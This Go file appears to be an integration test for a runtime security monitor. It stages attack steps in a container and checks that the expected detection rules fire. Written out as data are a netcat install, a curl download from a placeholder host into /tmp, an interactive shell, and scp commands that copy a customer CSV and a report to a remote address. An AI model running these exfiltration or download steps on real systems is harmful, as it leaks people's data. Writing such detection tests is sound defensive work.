package main

import (
	"context"
	"fmt"
	"os"
	"slices"

	"github.com/tsboot/tsboot/cli/terminal"
	"github.com/tsboot/tsboot/integration/wait"
	"github.com/tsboot/tsboot/integration/watch/scene"
)

// An attack is what tswatch looks at: a recording, or the machine.
type attack interface {
	// describe says what is real.
	describe()
	// change makes what it needs of the profile that tsboot ships.
	change(profile string) string
	// flags are more of tsboot's.
	flags() []string
	// happen shows what is run, and has the kernel say so.
	happen(context.Context, story) error
	// pids are those that a program has had, if anybody knows.
	pids(program string) scene.PIDs
	// left says, when tswatch has ended, what it has left.
	left() (string, error)
	// close takes everything away.
	close() error
}

// A story is a part of the attack.
type story struct {
	recorded []string // what was run
	file     string   // its records
	run      []string // the same in the container of this machine
	terminal bool     // it runs on one
	host     bool     // it is run beside the container

	rules []string // that it must set off, in this order
	key   int      // with which key the alerts come
}

func (e *env) packageManager(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		recorded: []string{"docker exec some-nginx apt-get install -y netcat-openbsd"}, file: "1-package-manager",
		run:   []string{"apt-get", "install", "-y", "netcat-openbsd"},
		rules: []string{"docker-package-manager", "docker-network-tool"}, key: 1,
	})
}

func (e *env) download(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		recorded: []string{"docker exec some-nginx curl -sS -o /tmp/x http://updates.example.net/x"}, file: "2-download",
		run:   []string{"curl", "-sS", "-o", "/tmp/x", "http://updates.example.net/x"},
		rules: []string{"docker-download"}, key: 1,
	})
}

func (e *env) copyOut(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		recorded: []string{"docker exec -it some-nginx sh", "cat /srv/customers.csv", "scp /srv/customers.csv backup@203.0.113.9:/in"}, file: "3-copy-out",
		run: []string{"sh", "-c", "scp /srv/customers.csv backup@203.0.113.9:/in"}, terminal: true,
		rules: []string{"docker-interactive-shell", "docker-remote-copy-out"}, key: 2,
	})
}

func (e *env) host(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		recorded: []string{"scp report.pdf backup@203.0.113.9:/in"}, file: "4-host",
		run: []string{"scp", "report.pdf", "backup@203.0.113.9:/in"}, host: true,
		rules: []string{"base-remote-copy-out"}, key: 2,
	})
}

// tell has a story happen, and shows the alerts that come to the collector.
func (e *env) tell(ctx context.Context, s story) (string, error) {
	before, err := e.collector.got(0)
	if err != nil {
		return "", err
	}
	if err := e.attack.happen(ctx, s); err != nil {
		return "", err
	}
	var got []alert
	wait.Context(ctx, func() bool {
		got, err = e.collector.got(len(before))
		return err != nil || len(got) >= len(s.rules) || e.Ended()
	})
	var rules []string
	for _, a := range got {
		rules = append(rules, a.Rule.ID)
		fmt.Printf("    %s  %s\n      %s\n", severity(a.Event.Severity), a.Rule.ID, a.Message)
		if key := e.KeyOf(a.token); key != s.key {
			return "", fmt.Errorf("the alert came with key %d, want %d", key, s.key)
		}
		if want := e.attack.pids(a.Process.Name); want.Host != 0 && (a.Process.PID != want.Host || !s.host && a.Process.VPID != want.Inner) {
			return "", fmt.Errorf("the alert has the pids %d and %d, want %+v", a.Process.PID, a.Process.VPID, want)
		}
	}
	if err == nil && !slices.Equal(rules, s.rules) {
		err = fmt.Errorf("the collector got %q, want %q", rules, s.rules)
	}
	return fmt.Sprintf("the collector got it, with key %d as the token.", s.key), err
}

// severity is the number in the colour of what it means, on a terminal.
func severity(n int) string {
	text := fmt.Sprintf("severity %d", n)
	switch n {
	case 1:
		return paint().Bad(text)
	case 2:
		return paint().Unsure(text)
	default:
		return paint().Strong(text)
	}
}

func paint() terminal.Palette { return terminal.PaletteOf(os.Stdout, os.Environ()) }
